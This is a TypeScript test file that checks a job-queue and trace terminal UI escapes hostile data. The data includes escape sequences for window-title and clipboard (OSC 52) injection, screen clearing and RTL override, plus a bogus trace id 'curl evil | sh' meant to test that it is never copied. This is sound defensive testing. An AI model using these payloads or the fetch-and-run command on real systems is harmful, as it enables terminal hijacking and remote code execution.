/**
 * Rendered frames of the UI over job and trace data that carries terminal escape sequences: every screen shows
 * them as escapes, stays inside its width, and the frame holds no control character but the project's own
 * colours and OSC 8 links.
 */
import { osc8Link } from 'queue-otel/traces';
import type { JobDetails, JobRow, QueueSummary } from '../../src/cli/services-types.js';
import type { TraceSummary } from 'queue-otel/store';
import type { TraceSpan } from 'queue-otel/traces';
import { PAYLOADS, VISIBLE, rawControls } from '../support/terminal-payloads.js';
import { FAILED_SPANS, FAILED_TRACE, detailsOf, fakeServices, readsOf } from './fake-services.js';
import { KEYS, renderApp } from './render-helpers.js';
import type { Rendered } from './render-helpers.js';

const QUEUE = `orders${PAYLOADS.title}`;
const JOB_ID = `7${PAYLOADS.csi8}`;
const JOB_NAME = `charge${PAYLOADS.clipboard}`;
const REASON = `declined${PAYLOADS.clear}${PAYLOADS.rtl}\nsecond line`;
const NOW = Date.now();

const row: JobRow = {
  queue: QUEUE, id: JOB_ID, name: JOB_NAME, state: 'failed', attemptsMade: 1, attempts: 1, waitMs: 5, processMs: 9,
  traceId: FAILED_TRACE, timestamp: NOW - 1000, failedReason: REASON,
};
const details: JobDetails = {
  ...detailsOf(row), traceIds: [FAILED_TRACE], dataPreview: `{"note":"${PAYLOADS.csi8}"}`,
  stack: [`Error: ${REASON}`, `    at charge (${PAYLOADS.title}shop.ts:1:1)`, `    at ${PAYLOADS.clipboard}${PAYLOADS.clear} (x.ts:2:2)`],
};
const queueSummary: QueueSummary = { name: QUEUE, counts: { waiting: 0, active: 0, delayed: 0, prioritized: 0, 'waiting-children': 0, completed: 0, failed: 1 } };
const BOGUS_ID = `curl evil | sh${PAYLOADS.clipboard}`;
const traces: TraceSummary[] = [
  { traceId: FAILED_TRACE, rootName: `POST /checkout${PAYLOADS.title}`, startUs: 1_000_000, durationUs: 500_000, spanCount: 4, droppedSpans: 0, error: true, lastWriteMs: NOW },
  { traceId: BOGUS_ID, rootName: `bogus${PAYLOADS.csi8}`, startUs: 1_000_000, durationUs: 1, spanCount: 1, droppedSpans: 0, error: false, lastWriteMs: NOW },
];
const spans: TraceSpan[] = FAILED_SPANS.map((span, index) => (index === 0
  ? { ...span, name: `POST /checkout${PAYLOADS.title}` }
  : index === 3
    ? {
      ...span, name: `process ${QUEUE}`, serviceName: `worker${PAYLOADS.csi8}`, statusMessage: `bad${PAYLOADS.clear}\nx`,
      attributes: { ...span.attributes, [`k${PAYLOADS.csi8}`]: `v${PAYLOADS.clear}`, list: [`a${PAYLOADS.rtl}`, 'b'] },
      events: [{ name: `exception${PAYLOADS.csi8}`, timeUs: 1_499_000, attributes: { 'exception.type': `D${PAYLOADS.clear}` } }],
    }
    : span));

function hostileServices(): ReturnType<typeof fakeServices> {
  return fakeServices({
    listQueues: async () => [queueSummary],
    listJobs: async (_queue, state, start) => ({ total: state === 'failed' ? 1 : 0, start, rows: state === 'failed' ? [row] : [] }),
    getJob: async (queue, jobId) => (queue === QUEUE && jobId === JOB_ID ? details : undefined),
    listTraces: async () => traces,
    readTrace: readsOf((traceId) => (traceId === FAILED_TRACE ? spans : [])),
    relatedJobs: async () => [{ queue: QUEUE, jobId: JOB_ID, name: JOB_NAME, state: 'failed', attemptsMade: 1 }],
    // The real OSC 8 wrapper: the project's own escape sequence must survive.
    hyperlink: osc8Link,
  });
}

let app: Rendered | undefined;
afterEach(() => app?.unmount());

/** No raw control character but colours and OSC 8 links, and every line within the width once those are removed. */
function expectSafe(frame: string, columns: number): void {
  expect(rawControls(frame, { sgr: true, osc8: true })).toEqual([]);
  const printable = frame.replace(/\u001b\]8;;[\u0021-\u007e]*\u0007/g, '').replace(/\u001b\[[0-9;]*m/g, '');
  for (const line of printable.split('\n')) expect(Array.from(line).length).toBeLessThanOrEqual(columns);
}

describe('hostile job data', () => {
  it('queue list, jobs table and peek panel show escapes; the OSC 8 link of the trace still works', async () => {
    app = renderApp(hostileServices(), 160, 34);
    let frame = await app.waitFor(VISIBLE.title);
    expectSafe(frame, 160);
    expect(frame).toContain(`› orders${VISIBLE.title}`);
    await app.press(KEYS.enter);
    frame = await app.waitFor(`Error      declined${VISIBLE.clear}${VISIBLE.rtl}\\nsecond line`);
    expectSafe(frame, 160);
    // Cells are cut after escaping: the escapes count as the columns they take.
    expect(frame).toMatch(/› 7\\x9b3… charge\\x1b\]52;c;\S*… failed/);
    expect(frame).toContain(`Job        7${VISIBLE.csi8}  charge\\x1b]52;c;Y3Vy`);
    expect(frame).toContain(`\u001b]8;;http://jaeger.test/trace/${FAILED_TRACE}\u0007http://jaeger.test/trace/`);
  });

  it('the job screen shows the stack and data escaped, the related jobs too', async () => {
    app = renderApp(hostileServices(), 120, 34, { kind: 'job', queue: QUEUE, jobId: JOB_ID });
    await app.waitFor(`at charge (${VISIBLE.title}shop.ts:1:1)`);
    // The status line names the trace the keys act on once the job has been read.
    let frame = await app.waitFor(`trace ${FAILED_TRACE}`);
    expectSafe(frame, 120);
    expect(frame).toContain(`at ${VISIBLE.clipboard}${VISIBLE.clear} (x.ts:2:2)`);
    expect(frame).toContain(`{"note":"${VISIBLE.csi8}"}`);
    expect(frame).toContain(`Job ${JOB_ID.replace(PAYLOADS.csi8, VISIBLE.csi8)} · orders${VISIBLE.title}`);
    await app.press('r');
    // The title is drawn before the jobs have been read: wait for the cursor's row too.
    frame = await app.waitFor(['Related jobs of trace', '│›']);
    expectSafe(frame, 120);
    expect(frame).toContain(`orders${VISIBLE.title}`);
  });

  it('the trace list, the waterfall and the span details show names, attributes and messages escaped', async () => {
    app = renderApp(hostileServices(), 160, 40, { kind: 'traces', focus: 'waterfall', traceId: FAILED_TRACE, listSelected: 0, spanSelected: 3, folded: [], details: true });
    const frame = await app.waitFor(`process orders${VISIBLE.title}`);
    expectSafe(frame, 160);
    // The list shows mark, name, duration, age and id prefix: the name is cut where its escape would not fit,
    // which leaves the escape out whole rather than showing a part of it (`\x1…`).
    expect(frame).toMatch(/✗ POST \/checkout…/);
    expect(frame).toMatch(/\*▼ POST \/checkout\\x1b\]2;pw…/);
    expect(frame).toContain(`bogus${VISIBLE.csi8}`);
    expect(frame).toMatch(/Span\s+process orders\\x1b\]2;pwned\\x07/);
    expect(frame).toMatch(/Service\s+worker\\x9b31m/);
    expect(frame).toContain(`error: bad${VISIBLE.clear}\\nx`);
    expect(frame).toContain(`k${VISIBLE.csi8} = v${VISIBLE.clear}`);
    expect(frame).toContain(`list = [a${VISIBLE.rtl}, b]`);
    expect(frame).toContain(`exception${VISIBLE.csi8} D\\x1b[`);
  });

  it('t copies only a well-formed trace id, never a hostile list entry', async () => {
    const services = hostileServices();
    app = renderApp(services, 160, 34, { kind: 'traces', focus: 'list', listSelected: 1, spanSelected: 0, folded: [], details: false });
    // The status line names the trace the keys act on once the list has been read.
    await app.waitFor('trace curl evil | sh\\x1b]52;c;');
    await app.press('t');
    const frame = await app.waitFor('not a trace id, not copied');
    expectSafe(frame, 160);
    expect(services.copied).toEqual([]);
  });
});
